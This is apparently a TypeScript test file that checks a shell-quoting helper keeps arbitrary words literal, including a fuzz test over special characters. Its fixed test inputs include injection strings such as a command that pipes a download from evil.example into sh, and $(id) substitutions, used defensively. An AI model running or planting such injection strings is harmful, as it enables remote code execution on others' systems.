// @ts-expect-error The page has no types of Node.js, which runs this test.
import { execFileSync } from 'node:child_process';
import { expect, test } from 'vitest';
import { shellQuoted } from '../src/core/shell';
import { randomNumbers } from './stacks';

/** The words that a command gets from a shell. */
const readByShell = (words: string[]) =>
  execFileSync('sh', ['-c', `printf '%s|' ${words.map(shellQuoted).join(' ')}`]).toString();

const expected = (words: string[]) => words.map((word) => `${word.replaceAll('\0', '')}|`).join('');

test('a shell reads names as they are', () => {
  const words = [
    '',
    'aa;curl http://evil.example/x|sh #',
    '$(id)',
    '`id`',
    'a\nid\n',
    "it's",
    '\u0003\u001b[A',
    '\u0085',
    "''",
  ];
  expect(readByShell(words)).toBe(expected(words));
  expect(shellQuoted('worker-1')).toBe('worker-1');
  expect(shellQuoted("it's\u0007")).toBe(`'it'\\''s'"$(printf '\\007')"''`);
});

test('a shell reads words of any characters as they are', () => {
  const random = randomNumbers(7);
  const characters = [
    ...`'"$\`\\;|&<>(){}*?~#!=%[] \n\r\t-`,
    '\u0000',
    '\u001b',
    '\u007f',
    '\u202e',
    'a',
    '0',
    'ä',
    '😀',
  ];
  const character = () => characters[random(characters.length)];
  const words = Array.from({ length: 300 }, () => Array.from({ length: random(12) }, character).join(''));
  expect(readByShell(words)).toBe(expected(words));
});
